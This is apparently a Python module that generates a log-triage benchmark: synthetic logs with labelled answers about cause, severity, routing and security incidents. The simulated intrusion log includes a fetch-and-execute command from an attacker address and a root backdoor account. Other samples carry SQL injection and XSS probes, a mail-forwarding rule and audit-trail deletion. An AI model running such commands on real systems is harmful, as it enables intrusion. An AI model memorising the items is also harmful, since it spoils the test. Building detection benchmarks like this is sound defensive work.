"""Log triage: does this need action, what is the cause, how severe, who gets paged."""

import random
from datetime import datetime, timedelta

from ._kit import choice, it, noul, score

DOMAIN = "log_triage"
PREFIX = "logs"

ACTION = noul(
    "Does this log excerpt show a problem that someone needs to act on?",
    true="An unresolved failure, outage, data risk or security problem is visible.",
    false="Normal operation, expected noise, or a transient error that was retried successfully.",
)
OOM = noul("Was a process killed, or did it crash, because it ran out of memory?")
SECURITY = noul(
    "Does this log show a likely security incident (unauthorised access, a successful exploit, credential "
    "abuse), rather than routine blocked probing?"
)
RECOVERED = noul("By the end of the excerpt, has the service recovered and is it working normally again?")

CAUSE = choice(
    "What is the most likely root cause of the problem in this log?",
    {
        "disk_full": "no space left on a volume",
        "out_of_memory": "a process exhausted its memory",
        "network": "timeouts, DNS failures, connection resets between services",
        "credentials": "expired, wrong or revoked passwords, tokens or certificates",
        "configuration": "a bad or missing config value, flag or environment variable",
        "dependency_down": "a database, queue or upstream API that this service relies on is unavailable",
        "code_bug": "an exception in the application code itself",
        "no_problem": "nothing is wrong",
    },
)
TEAM = choice(
    "Which on-call team should this alert be routed to?",
    {
        "database": "Postgres/MySQL/Redis clusters: replication, locks, storage engines, slow queries",
        "platform": "Kubernetes, nodes, disks, networking, load balancers, DNS",
        "application": "the service's own code and its deploys",
        "security": "intrusions, suspicious logins, leaked secrets",
    },
)
LEVEL = score(
    "At which log level should this event be logged?",
    [
        "TRACE: step-by-step internals",
        "DEBUG: diagnostic detail for developers",
        "INFO: a normal, significant event",
        "WARN: unexpected but handled",
        "ERROR: an operation failed",
        "FATAL: the process cannot continue",
    ],
)
SEVERITY = score(
    "Rate the severity of what this log shows.",
    [
        "informational: normal operation",
        "low: warnings with no user impact",
        "medium: degraded or partial errors, users somewhat affected",
        "high: a service is down or data is at risk",
        "critical: a widespread outage or data loss in progress",
    ],
)


def _stream(seed, start, count, lines, step=(1, 9), fmt="%Y-%m-%dT%H:%M:%S"):
    """Deterministic filler log: `count` lines drawn from `lines` (callables of rng), timestamps rising."""
    rng = random.Random(seed)
    t = datetime.fromisoformat(start)
    out = []
    for _ in range(count):
        t += timedelta(seconds=rng.randint(*step), milliseconds=rng.randint(0, 999))
        stamp = t.strftime(fmt) + f".{t.microsecond // 1000:03d}Z"
        out.append((stamp, rng.choice(lines)(rng)))
    return out


def _render(rows):
    return "\n".join(f"{stamp} {text}" for stamp, text in rows)


def _insert(rows, at, texts):
    """Insert texts after row `at`, reusing that row's timestamp (the buried lines)."""
    stamp = rows[at][0]
    return rows[: at + 1] + [(stamp, t) for t in texts] + rows[at + 1 :]


# --- long log 1: checkout API, a slow disk fill buried among request logs ----------------------------------
_API = [
    lambda r: f"INFO  checkout-api [req {r.randrange(16**8):08x}] POST /v2/cart/items 201 {r.randint(18, 95)}ms",
    lambda r: f"INFO  checkout-api [req {r.randrange(16**8):08x}] GET /v2/cart 200 {r.randint(6, 40)}ms",
    lambda r: f"INFO  checkout-api [req {r.randrange(16**8):08x}] POST /v2/checkout 200 {r.randint(120, 480)}ms",
    lambda r: f"DEBUG checkout-api cache hit ratio={r.randint(88, 97)}% keys={r.randint(40000, 42000)}",
    lambda r: f"INFO  checkout-api [req {r.randrange(16**8):08x}] GET /healthz 200 1ms",
    lambda r: f"WARN  checkout-api [req {r.randrange(16**8):08x}] slow query orders.lookup_by_user {r.randint(510, 900)}ms",
]
_rows = _stream(101, "2024-06-03T09:00:00", 34, _API, step=(2, 25))
_rows = _insert(_rows, 9, ["WARN  node-exporter /var/lib/checkout disk usage 91% (threshold 90%)"])
_rows = _insert(_rows, 27, ["WARN  node-exporter /var/lib/checkout disk usage 97% (threshold 90%)"])
_rows = _rows + [
    (_rows[-1][0], "ERROR checkout-api failed to write order journal: [Errno 28] No space left on device: "
     "'/var/lib/checkout/journal/2024-06-03.wal'"),
    (_rows[-1][0], "ERROR checkout-api [req 7f3a91c2] POST /v2/checkout 500 12ms error=JournalWriteError"),
    (_rows[-1][0], "ERROR checkout-api [req 0b44de19] POST /v2/checkout 500 9ms error=JournalWriteError"),
    (_rows[-1][0], "INFO  checkout-api [req 5c2e7710] GET /v2/cart 200 11ms"),
    (_rows[-1][0], "ERROR checkout-api [req a9e0c3d4] POST /v2/checkout 500 10ms error=JournalWriteError"),
]
LONG_DISK = _render(_rows)

# --- long log 2: Kubernetes pod restarts from OOMKilled, buried in kubelet chatter ----------------------------
_KUBE = [
    lambda r: f"kubelet[1187]: I0611 pod_workers.go:{r.randint(900, 1300)}] \"SyncLoop (PLEG): event for pod\" pod=\"shop/catalog-{r.choice(['7d9f', '8a21', 'c410'])}-{r.randrange(16**5):05x}\" event=ContainerStarted",
    lambda r: f"kubelet[1187]: I0611 prober.go:{r.randint(100, 130)}] \"Probe succeeded\" probeType=\"Readiness\" pod=\"shop/cart-{r.randrange(16**5):05x}\"",
    lambda r: f"kubelet[1187]: I0611 kubelet_volumes.go:{r.randint(150, 170)}] \"Cleaned up orphaned pod volumes dir\" podUID=\"{r.randrange(16**8):08x}-{r.randrange(16**4):04x}\"",
    lambda r: f"containerd[902]: time=\"...\" level=info msg=\"ImageCreate event name:registry.local/shop/search:v3.{r.randint(10, 14)}.{r.randint(0, 9)}\"",
    lambda r: f"kubelet[1187]: I0611 kuberuntime_manager.go:{r.randint(1000, 1100)}] \"Pulling image\" image=\"registry.local/shop/reviews:v1.{r.randint(2, 9)}\"",
    lambda r: f"systemd[1]: Started session-{r.randint(4000, 4999)}.scope - Session of user deploy.",
]
_rows = _stream(202, "2024-06-11T14:20:00", 24, _KUBE, step=(1, 6))
_rows = _insert(_rows, 8, [
    "kernel: search-indexer invoked oom-killer: gfp_mask=0x140cca(GFP_HIGHUSER_MOVABLE|__GFP_COMP), order=0, oom_score_adj=985",
    "kernel: Memory cgroup out of memory: Killed process 48812 (java) total-vm:6412284kB, anon-rss:2096844kB, file-rss:0kB, shmem-rss:0kB, UID:1000 pgtables:4456kB oom_score_adj:985",
])
_rows = _insert(_rows, 18, [
    "kubelet[1187]: I0611 kuberuntime_container.go:745] \"Container exited\" pod=\"shop/search-indexer-5c8d7-qx2lm\" container=\"indexer\" exitCode=137 reason=\"OOMKilled\"",
    "kubelet[1187]: E0611 pod_workers.go:1298] \"Error syncing pod, skipping\" err=\"failed to \\\"StartContainer\\\" for \\\"indexer\\\" with CrashLoopBackOff: \\\"back-off 2m40s restarting failed container\\\"\" pod=\"shop/search-indexer-5c8d7-qx2lm\"",
])
LONG_OOM = _render(_rows)

# --- long log 3: sshd auth log, brute force then a success from the same address -------------------------
_SSH = [
    lambda r: f"sshd[{r.randint(20000, 29999)}]: Failed password for invalid user {r.choice(['admin', 'test', 'oracle', 'ubuntu', 'pi', 'git', 'postgres', 'user1'])} from 203.0.113.{r.choice([45, 45, 45, 77])} port {r.randint(30000, 65000)} ssh2",
    lambda r: f"sshd[{r.randint(20000, 29999)}]: Connection closed by invalid user {r.choice(['support', 'ftp', 'www', 'guest'])} 203.0.113.45 port {r.randint(30000, 65000)} [preauth]",
    lambda r: f"sshd[{r.randint(20000, 29999)}]: Received disconnect from 198.51.100.{r.randint(2, 250)} port {r.randint(30000, 65000)}:11: Bye Bye [preauth]",
    lambda r: f"CRON[{r.randint(30000, 39999)}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
    lambda r: f"sshd[{r.randint(20000, 29999)}]: Failed password for deploy from 203.0.113.45 port {r.randint(30000, 65000)} ssh2",
]
_rows = _stream(303, "2024-07-19T02:10:00", 30, _SSH, step=(1, 4), fmt="%b %d %H:%M:%S")
_rows = _rows + [
    (_rows[-1][0], "sshd[28841]: Accepted password for deploy from 203.0.113.45 port 51522 ssh2"),
    (_rows[-1][0], "sshd[28841]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"),
    (_rows[-1][0], "sudo: deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.45/x.sh -o /tmp/.x"),
    (_rows[-1][0], "sudo: deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash /tmp/.x"),
    (_rows[-1][0], "useradd[28910]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash"),
]
LONG_SSH = "\n".join(f"{stamp} web-03 {text}" for stamp, text in _rows)

# --- long log 4: CI pipeline, a flaky test retried and passing (nothing to do) ---------------------------------
_CI_TESTS = [
    "tests/test_orders.py::test_create_order", "tests/test_orders.py::test_cancel_order",
    "tests/test_orders.py::test_refund_partial", "tests/test_users.py::test_signup",
    "tests/test_users.py::test_password_reset_email", "tests/test_users.py::test_delete_account",
    "tests/test_search.py::test_query_empty", "tests/test_search.py::test_query_unicode",
    "tests/test_search.py::test_pagination", "tests/test_payments.py::test_capture",
    "tests/test_payments.py::test_webhook_signature", "tests/test_payments.py::test_idempotency_key",
    "tests/test_inventory.py::test_reserve", "tests/test_inventory.py::test_release_on_timeout",
    "tests/test_inventory.py::test_low_stock_alert", "tests/test_reports.py::test_daily_csv",
    "tests/test_reports.py::test_timezone_boundaries", "tests/test_api.py::test_rate_limit_headers",
    "tests/test_api.py::test_cors_preflight", "tests/test_api.py::test_openapi_schema",
]
_ci = [
    "Run #8812 · branch main · commit 4e1f0ac \"Bump httpx to 0.27.2\" · triggered by push (ana.silva)",
    "[setup] Pulling runner image ghcr.io/acme/ci-python:3.12 ... done (4.1s)",
    "[setup] Restoring cache key pip-3.12-9a1c0f... hit (212 MB)",
    "[install] pip install -r requirements/dev.txt",
    "[install] Successfully installed 143 packages in 18.2s",
    "[lint] ruff check . — All checks passed!",
    "[lint] mypy src/ — Success: no issues found in 212 source files",
    "[test] pytest -n 4 --reruns 2 --junitxml=report.xml",
    "[test] ============================= test session starts ==============================",
    "[test] platform linux -- Python 3.12.4, pytest-8.2.2, pluggy-1.5.0",
    "[test] plugins: xdist-3.6.1, rerunfailures-14.0, cov-5.0.0",
    "[test] 4 workers [60 items]",
]
_rng = random.Random(404)
for _i in range(3):
    for _name in _CI_TESTS:
        _ci.append(f"[test] [gw{_rng.randint(0, 3)}] PASSED {_name}[case{_i}]")
_ci.insert(40, "[test] [gw2] RERUN tests/test_inventory.py::test_release_on_timeout[case1]")
_ci.insert(41, "[test] [gw2] PASSED tests/test_inventory.py::test_release_on_timeout[case1]")
_ci += [
    "[test] ================= 60 passed, 1 rerun in 31.07s =================",
    "[coverage] TOTAL 18422 stmts 1377 miss 93%",
    "[build] docker build -t registry.acme.dev/shop/api:4e1f0ac . ... done (61.0s)",
    "[build] docker push registry.acme.dev/shop/api:4e1f0ac ... done",
    "[deploy] skipped (branch main deploys on tag only)",
    "Run #8812 finished: success in 3m 48s",
]
LONG_CI = "\n".join(_ci)

# --- long log 5: nginx access log, one upstream failing for a single route -------------------------------------
_PATHS = ["/", "/products/trail-runner-2", "/products/merino-beanie", "/cart", "/static/app.9c1e.js",
          "/static/app.9c1e.css", "/api/search?q=jacket", "/api/recommendations", "/account/orders", "/img/hero.webp"]
_AGENTS = ["Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
           "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3)", "Mozilla/5.0 (Linux; Android 14; Pixel 8)"]


def _access(r, status=None, path=None):
    path = path or r.choice(_PATHS)
    status = status or (304 if path.startswith("/static") and r.random() < 0.5 else 200)
    method = "POST" if path.startswith("/api/pay") else "GET"
    return (f'10.1.{r.randint(0, 9)}.{r.randint(2, 250)} - - [{{stamp}} +0000] "{method} {path} HTTP/2.0" {status} '
            f'{r.randint(200, 48000)} "{r.choice(_AGENTS)}" rt={r.random():.3f}')


_rows = _stream(505, "2024-08-22T19:00:00", 16, [_access], step=(0, 3), fmt="%d/%b/%Y:%H:%M:%S")
_r5 = random.Random(506)
for _k in (4, 8, 11, 13, 16, 18):
    _rows.insert(_k, (_rows[_k][0], _access(_r5, 502, "/api/payments/intent")
                      + ' upstream="payments-v2:8080" err="upstream prematurely closed connection"'))
_rows.insert(7, (_rows[7][0], _access(_r5, 200, "/api/payments/intent") + ' upstream="payments-v2:8080"'))
LONG_NGINX = "\n".join(text.replace("{stamp}", stamp[:-5]) for stamp, text in _rows)


ITEMS = [
    # ---- needs action? -----------------------------------------------------------------------------------
    it(ACTION, """
        2024-03-02 11:04:12 INFO  billing-worker started, consuming queue invoices.v2 (prefetch=20)
        2024-03-02 11:04:13 INFO  billing-worker connected to postgres primary db-billing-1:5432
        2024-03-02 11:05:00 INFO  processed 118 messages in 60s (avg 41ms)
        2024-03-02 11:06:00 INFO  processed 124 messages in 60s (avg 39ms)
        """, False),
    it(ACTION, """
        Mar 14 03:12:44 db-02 postgres[8841]: FATAL:  could not write to file "pg_wal/xlogtemp.8841": No space left on device
        Mar 14 03:12:44 db-02 postgres[1203]: LOG:  server process (PID 8841) exited with exit code 1
        Mar 14 03:12:44 db-02 postgres[1203]: LOG:  terminating any other active server processes
        Mar 14 03:12:45 db-02 postgres[1203]: LOG:  all server processes terminated; reinitializing
        Mar 14 03:12:45 db-02 postgres[9002]: FATAL:  could not write to file "pg_wal/xlogtemp.9002": No space left on device
        """, True),
    it(ACTION, """
        [2024-05-20 16:40:02] WARN  http-client: GET https://api.exchangerates.io/latest timed out after 5000ms (attempt 1/3)
        [2024-05-20 16:40:03] INFO  http-client: GET https://api.exchangerates.io/latest 200 in 412ms (attempt 2/3)
        [2024-05-20 16:40:03] INFO  rates-sync: updated 164 currency pairs
        """, False),
    it(ACTION, """
        {"ts":"2024-08-09T07:00:01Z","level":"error","svc":"notifier","msg":"smtp auth failed","host":"smtp.sendgrid.net","code":535,"detail":"Authentication failed: The provided authorization grant is invalid, expired, or revoked"}
        {"ts":"2024-08-09T07:00:31Z","level":"error","svc":"notifier","msg":"smtp auth failed","host":"smtp.sendgrid.net","code":535}
        {"ts":"2024-08-09T07:01:01Z","level":"error","svc":"notifier","msg":"smtp auth failed","host":"smtp.sendgrid.net","code":535}
        {"ts":"2024-08-09T07:01:02Z","level":"warn","svc":"notifier","msg":"outbound queue depth 1840 (threshold 500)"}
        """, True),
    it(ACTION, """
        Jul 02 22:00:00 backup-01 restic[4410]: snapshot 7c1e9a02 saved
        Jul 02 22:00:00 backup-01 restic[4410]: Files: 118 new, 2204 changed, 481930 unmodified
        Jul 02 22:00:00 backup-01 restic[4410]: Added to the repository: 1.842 GiB (612.331 MiB stored)
        Jul 02 22:00:01 backup-01 restic[4410]: processed 484252 files, 312.114 GiB in 14:02
        """, False),
    it(ACTION, """
        2024-10-01T12:00:03Z WARN  tls: certificate for api.partner-gateway.internal expires in 6 days (2024-10-07T00:00:00Z)
        2024-10-01T12:00:03Z INFO  tls: 14 other certificates valid for > 30 days
        """, True, amb=True),
    it(ACTION, """
        127.0.0.1 - - [12/Feb/2024:10:11:02 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 (zgrab/0.x)"
        127.0.0.1 - - [12/Feb/2024:10:11:02 +0000] "GET /.env HTTP/1.1" 404 153 "-" "Mozilla/5.0 (zgrab/0.x)"
        127.0.0.1 - - [12/Feb/2024:10:11:03 +0000] "GET /phpmyadmin/ HTTP/1.1" 404 153 "-" "Mozilla/5.0 (zgrab/0.x)"
        127.0.0.1 - - [12/Feb/2024:10:11:05 +0000] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2)"
        """, False),
    it(ACTION, """
        2024-09-18 08:30:11,201 WARNING celery.worker Task reports.generate_monthly[9f1c] soft time limit (300s) exceeded, retrying in 60s
        2024-09-18 08:36:19,877 WARNING celery.worker Task reports.generate_monthly[9f1c] soft time limit (300s) exceeded, retrying in 120s
        2024-09-18 08:43:40,112 ERROR   celery.worker Task reports.generate_monthly[9f1c] max retries (2) exceeded, giving up
        """, True),
    it(ACTION, LONG_CI, False),
    it(ACTION, LONG_DISK, True),
    # ---- OOM? ------------------------------------------------------------------------------------------------
    it(OOM, """
        [  8312.441209] Out of memory: Killed process 22190 (python3) total-vm:14082212kB, anon-rss:12288440kB, file-rss:2048kB, shmem-rss:0kB, UID:1001 pgtables:24312kB oom_score_adj:0
        [  8312.512004] oom_reaper: reaped process 22190 (python3), now anon-rss:0kB, file-rss:0kB, shmem-rss:0kB
        """, True),
    it(OOM, """
        Exception in thread "main" java.lang.NullPointerException: Cannot invoke "com.acme.Order.getCustomer()" because "order" is null
            at com.acme.billing.InvoiceService.build(InvoiceService.java:88)
            at com.acme.billing.InvoiceJob.run(InvoiceJob.java:41)
        """, False),
    it(OOM, """
        Exception in thread "report-exporter-3" java.lang.OutOfMemoryError: Java heap space
            at java.base/java.util.Arrays.copyOf(Arrays.java:3537)
            at java.base/java.lang.AbstractStringBuilder.ensureCapacityInternal(AbstractStringBuilder.java:228)
            at com.acme.export.CsvWriter.append(CsvWriter.java:112)
        """, True),
    it(OOM, """
        2024-04-11T10:22:01Z warn  memory usage 78% of limit (1.56Gi / 2Gi) for pod analytics-etl-0
        2024-04-11T10:27:01Z warn  memory usage 81% of limit (1.62Gi / 2Gi) for pod analytics-etl-0
        2024-04-11T10:32:01Z info  memory usage 64% of limit (1.28Gi / 2Gi) for pod analytics-etl-0 after GC
        """, False),
    it(OOM, """
        ERROR: Job failed: exit code 137
        Step 7/12 : RUN npm run build
        <--- Last few GCs --->
        [41:0x5a3c2e0]    88321 ms: Mark-sweep 2041.9 (2083.5) -> 2040.7 (2084.2) MB, 1602.3 / 0.0 ms  (average mu = 0.092) allocation failure
        FATAL ERROR: Ineffective mark-compacts near heap limit Allocation failed - JavaScript heap out of memory
        """, True),
    it(OOM, """
        Container "worker" in pod "media-transcode-6f7b9-2kq8x" exited with code 137 (reason: Error). Last state: Terminated at 2024-02-03T11:04:22Z.
        Events: Killing  container worker  (kubelet) Stopping container worker — pod is being evicted for node drain
        """, False, amb=True),
    it(RECOVERED, LONG_OOM, False),  # the long kubelet log, asked whether the indexer recovered
    # ---- security incident? ----------------------------------------------------------------------------------
    it(SECURITY, """
        Sep 03 04:12:10 bastion sshd[3120]: Failed password for root from 45.155.205.12 port 55120 ssh2
        Sep 03 04:12:12 bastion sshd[3120]: Failed password for root from 45.155.205.12 port 55120 ssh2
        Sep 03 04:12:13 bastion sshd[3120]: Disconnecting authenticating user root 45.155.205.12 port 55120: Too many authentication failures [preauth]
        Sep 03 04:12:13 bastion fail2ban.actions[812]: NOTICE [sshd] Ban 45.155.205.12
        """, False),
    it(SECURITY, """
        2024-11-02T01:14:55Z audit user=svc-reporting action=s3:GetObject bucket=acme-payroll-exports objects=4211 src_ip=185.100.87.41 geo=NL
        2024-11-02T01:14:55Z audit note: svc-reporting normally reads only acme-analytics and only from 10.0.0.0/8
        2024-11-02T01:15:40Z audit user=svc-reporting action=iam:CreateAccessKey target=svc-reporting src_ip=185.100.87.41
        """, True),
    it(SECURITY, """
        [waf] 2024-06-12 13:44:10 BLOCK rule 942100 (SQL injection) ip=91.92.240.17 uri="/search?q=1' OR '1'='1" status=403
        [waf] 2024-06-12 13:44:11 BLOCK rule 942100 (SQL injection) ip=91.92.240.17 uri="/search?q=1 UNION SELECT password FROM users--" status=403
        [waf] 2024-06-12 13:44:12 BLOCK rule 941100 (XSS) ip=91.92.240.17 uri="/search?q=<script>alert(1)</script>" status=403
        """, False),
    it(SECURITY, """
        2024-07-30 09:02:11 gitleaks: finding in commit 8c1d2e0 (author: j.morgan) file=config/prod.env line=14 rule=aws-access-token secret=AKIA****************QF7Z
        2024-07-30 09:02:11 gitleaks: repository visibility: public
        """, True),
    it(SECURITY, """
        2024-03-21T15:30:02Z auth login success user=m.chen@acme.io ip=81.2.69.160 geo=GB device=known mfa=totp
        2024-03-21T18:47:29Z auth login success user=m.chen@acme.io ip=81.2.69.160 geo=GB device=known mfa=totp
        """, False),
    it(SECURITY, """
        2024-03-22T02:11:40Z auth login success user=m.chen@acme.io ip=81.2.69.160 geo=GB device=known mfa=totp
        2024-03-22T02:19:05Z auth login success user=m.chen@acme.io ip=102.89.32.7 geo=NG device=new mfa=push_approved
        2024-03-22T02:21:44Z auth mailbox rule created user=m.chen@acme.io rule="forward all mail containing 'invoice' to archive.box@protonmail.com"
        """, True),
    it(SECURITY, """
        2024-12-04T10:15:00Z auth login failed user=k.obi@acme.io reason=bad_password ip=81.2.69.200
        2024-12-04T10:15:22Z auth login failed user=k.obi@acme.io reason=bad_password ip=81.2.69.200
        2024-12-04T10:16:01Z auth password reset requested user=k.obi@acme.io ip=81.2.69.200
        2024-12-04T10:18:30Z auth login success user=k.obi@acme.io ip=81.2.69.200 device=known mfa=totp
        """, False, amb=True),
    it(SECURITY, LONG_SSH, True),
    # ---- recovered? -----------------------------------------------------------------------------------------
    it(RECOVERED, """
        14:02:11 ERROR upstream payments-svc: connect() failed (111: Connection refused)
        14:02:15 ERROR upstream payments-svc: connect() failed (111: Connection refused)
        14:02:30 INFO  payments-svc: listening on :8443 (pid 7712)
        14:02:31 INFO  upstream payments-svc: 200 POST /charge 84ms
        14:02:33 INFO  upstream payments-svc: 200 POST /charge 77ms
        """, True),
    it(RECOVERED, """
        09:00:00 ERROR replica db-3 lag 45s (threshold 10s)
        09:05:00 ERROR replica db-3 lag 310s (threshold 10s)
        09:10:00 ERROR replica db-3 lag 615s (threshold 10s)
        09:10:02 WARN  read traffic removed from db-3
        """, False),
    it(RECOVERED, """
        2024-01-09T06:31:00Z redis-sentinel +sdown master cache-main 10.2.0.11 6379
        2024-01-09T06:31:01Z redis-sentinel +odown master cache-main 10.2.0.11 6379 #quorum 2/2
        2024-01-09T06:31:03Z redis-sentinel +switch-master cache-main 10.2.0.11 6379 10.2.0.12 6379
        2024-01-09T06:31:04Z app cache reconnected to 10.2.0.12:6379
        2024-01-09T06:31:10Z app cache hit ratio 94%
        """, True),
    it(RECOVERED, """
        [deploy] rolling update web 3.8.0 -> 3.8.1: 4/12 pods updated
        [deploy] pod web-7c9-abcde readiness probe failed: HTTP 500
        [deploy] pod web-7c9-fghij readiness probe failed: HTTP 500
        [deploy] progress deadline exceeded; rollout paused (8 pods still on 3.8.0, 4 pods not ready)
        """, False, amb=True),
    # ---- cause ----------------------------------------------------------------------------------------------
    it(CAUSE, """
        2024-05-02 10:01:22 ERROR [ingest] failed to write chunk /data/ingest/part-00841.parquet: OSError: [Errno 28] No space left on device
        2024-05-02 10:01:22 ERROR [ingest] batch 841 aborted
        """, "disk_full"),
    it(CAUSE, """
        Traceback (most recent call last):
          File "/app/worker.py", line 214, in handle
            total = sum(line["amount"] for line in invoice["lines"])
          File "/app/worker.py", line 214, in <genexpr>
            total = sum(line["amount"] for line in invoice["lines"])
        KeyError: 'amount'
        2024-06-14 13:20:11 ERROR job 4412 failed, moved to dead-letter queue
        """, "code_bug"),
    it(CAUSE, """
        2024-02-27T08:14:03Z error  orders-api  dial tcp 10.0.14.22:5432: connect: connection refused (postgres primary)
        2024-02-27T08:14:03Z error  orders-api  health check failed: database unavailable
        2024-02-27T08:14:04Z info   pg-operator cluster orders-db: primary pod orders-db-0 in CrashLoopBackOff
        """, "dependency_down"),
    it(CAUSE, """
        2024-08-30 00:00:04 ERROR sync-partners: 401 Unauthorized from https://api.partner.example/v1/orders: {"error":"token_expired","expired_at":"2024-08-30T00:00:00Z"}
        2024-08-30 00:05:04 ERROR sync-partners: 401 Unauthorized from https://api.partner.example/v1/orders
        """, "credentials"),
    it(CAUSE, """
        panic: config: required key "STRIPE_WEBHOOK_SECRET" is empty
        goroutine 1 [running]:
        main.mustLoadConfig(...)
            /src/cmd/server/main.go:58
        2024-07-07T09:12:00Z pod billing-api-6fd9c restarted (CrashLoopBackOff) after deploy of manifest rev 214 (env section edited)
        """, "configuration"),
    it(CAUSE, """
        2024-10-10 17:44:12 WARN  resolver: lookup inventory.svc.cluster.local on 10.96.0.10:53: read udp 10.244.3.17:41233->10.96.0.10:53: i/o timeout
        2024-10-10 17:44:17 ERROR client: GET http://inventory.svc.cluster.local/stock/8812: context deadline exceeded (Client.Timeout exceeded while awaiting headers)
        2024-10-10 17:44:17 WARN  coredns pods 2/2 show high packet drop on node ip-10-0-3-17
        """, "network"),
    it(CAUSE, """
        [ 1204.330118] Memory cgroup out of memory: Killed process 3391 (ffmpeg) total-vm:9422108kB, anon-rss:4190224kB
        2024-03-05 12:00:44 ERROR transcode job 1120 failed: worker exited with signal 9
        """, "out_of_memory"),
    it(CAUSE, """
        2024-06-01T00:00:00Z info  nightly-maintenance: VACUUM ANALYZE completed on 212 tables in 8m12s
        2024-06-01T00:08:13Z info  nightly-maintenance: reindex skipped (no bloat above 20%)
        2024-06-01T00:08:13Z info  nightly-maintenance: done
        """, "no_problem"),
    it(CAUSE, """
        x509: certificate has expired or is not yet valid: current time 2024-09-02T00:01:17Z is after 2024-09-01T23:59:59Z
        2024-09-02T00:01:17Z ERROR grpc client ledger.internal:443 transport: authentication handshake failed
        """, "credentials", amb=True),
    it(CAUSE, """
        2024-04-04 09:30:00 INFO  deploy api v5.2.0 complete (previous v5.1.9)
        2024-04-04 09:30:41 ERROR GET /v1/profile 500 TypeError: Cannot read properties of undefined (reading 'avatarUrl') at serializeUser (user.js:77)
        2024-04-04 09:30:42 ERROR GET /v1/profile 500 TypeError: Cannot read properties of undefined (reading 'avatarUrl') at serializeUser (user.js:77)
        """, "code_bug"),
    it(CAUSE, """
        2024-11-19 11:02:00 WARN  kafka-consumer: rebalance triggered (member left group)
        2024-11-19 11:02:03 ERROR kafka-consumer: Broker: Leader not available for partition orders-7
        2024-11-19 11:02:03 ERROR kafka-consumer: 3 of 3 brokers unreachable: kafka-0/1/2 connection refused
        """, "dependency_down"),
    it(CAUSE, """
        2024-12-01T06:00:00Z ERROR feature-flags: unknown environment "prodution" in FLAGS_ENV; falling back to defaults (all flags off)
        2024-12-01T06:00:05Z WARN  checkout: new payment page disabled by flag; serving legacy page
        """, "configuration"),
    it(CAUSE, """
        2024-05-28 15:10:40 ERROR s3-uploader: RequestTimeout: Your socket connection to the server was not read from or written to within the timeout period
        2024-05-28 15:10:52 ERROR s3-uploader: RequestTimeout (retry 3/3)
        2024-05-28 15:10:52 INFO  node net stats: eth0 tx errors 4122 in last minute, link flapping
        """, "network"),
    it(CAUSE, """
        2024-07-21 03:00:10 ERROR cron/cleanup: rm: cannot remove '/var/log/app/archive/2023-*.gz': Permission denied
        2024-07-21 03:00:10 WARN  cron/cleanup: 0 files removed, archive now 48 GB
        2024-07-21 03:00:10 INFO  cron/cleanup: the job now runs as user 'app' (changed in ansible role logs v2.3)
        """, "configuration", amb=True),
    it(CAUSE, """
        2024-02-02 14:00:01 ERROR mail-relay: 550 5.7.1 Relaying denied. IP 34.89.10.4 not in allowed list
        2024-02-02 14:00:01 INFO  mail-relay: outbound IP changed from 34.89.10.2 to 34.89.10.4 after NAT gateway replacement
        """, "configuration", amb=True),
    it(CAUSE, """
        2024-09-12 06:40:01 ERROR mailspool: cannot create /var/spool/mail/queue/q-88121: No space left on device
        2024-09-12 06:40:01 INFO  df -h /var: 61% used (39G free)
        2024-09-12 06:40:01 INFO  df -i /var: IUsed 6553600 IFree 0 IUse% 100%
        """, "disk_full"),
    # ---- team ------------------------------------------------------------------------------------------------
    it(TEAM, """
        2024-06-09 11:02:11 UTC [4412] LOG:  process 4412 still waiting for ShareLock on transaction 99120451 after 1000.118 ms
        2024-06-09 11:02:11 UTC [4412] DETAIL:  Process holding the lock: 4398. Wait queue: 4412, 4420, 4431, 4437.
        2024-06-09 11:02:14 UTC [4398] ERROR:  deadlock detected
        """, "database"),
    it(TEAM, """
        Warning  NodeNotReady   node/ip-10-0-7-41   Node ip-10-0-7-41 status is now: NodeNotReady
        Warning  FailedMount    pod/ledger-2        MountVolume.SetUp failed for volume "pvc-7c1e" : rpc error: code = DeadlineExceeded
        Normal   TaintManagerEviction pod/ledger-2  Marking for deletion Pod default/ledger-2
        """, "platform"),
    it(TEAM, """
        2024-09-01 12:00:14 ERROR invoice-service: ZeroDivisionError: division by zero in apply_discount (discounts.py:41) when discount_pct=100
        """, "application"),
    it(TEAM, """
        2024-08-14T22:40:02Z cloudtrail: ConsoleLogin user=root account=8812-4410-2290 src_ip=5.188.62.14 mfa=false result=Success
        2024-08-14T22:41:30Z cloudtrail: DeleteTrail name=org-audit-trail user=root
        """, "security"),
    it(TEAM, """
        redis-cluster-2: # WARNING: used_memory 15.8G > maxmemory 16G, evicting keys (policy allkeys-lru), evicted_keys +124000 in 60s
        redis-cluster-2: # replica redis-cluster-2-r1 link down for 42s, full resync requested
        """, "database", amb=True),
    it(TEAM, """
        alb-public: target group tg-web-prod has 0 healthy targets in eu-west-1b (2 healthy in eu-west-1a)
        alb-public: 5xx rate 31% over last 5 minutes
        """, "platform", amb=True),
    it(TEAM, """
        2024-10-02 10:11:40 ERROR recommendations-svc: IndexError: list index out of range in rank_candidates (ranker.py:203) for users with empty history; 12% of /recommendations requests failing since release 2.14.0
        """, "application"),
    # ---- log level for an event ----
    it(LEVEL, "Event: entering parse_header() with buffer length 512, offset 0.", 0),
    it(LEVEL, "Event: cache miss for key user:8812:prefs; loading preferences from the database.", 1),
    it(LEVEL, "Event: user 8812 signed in successfully with SSO.", 2),
    it(LEVEL, "Event: config file /etc/app/app.yaml not found; continuing with built-in defaults.", 3),
    it(LEVEL, "Event: capturing payment for order 7712 failed after 3 retries; order marked 'payment_failed'.", 4),
    it(LEVEL, "Event: cannot bind to port 8080 (address already in use); the server is shutting down.", 5),
    # ---- severity ---------------------------------------------------------------------------------------------
    it(SEVERITY, """
        2024-05-06 08:00:00 INFO  scheduler: daily jobs queued (14)
        2024-05-06 08:00:02 INFO  scheduler: job backup-configs completed in 1.9s
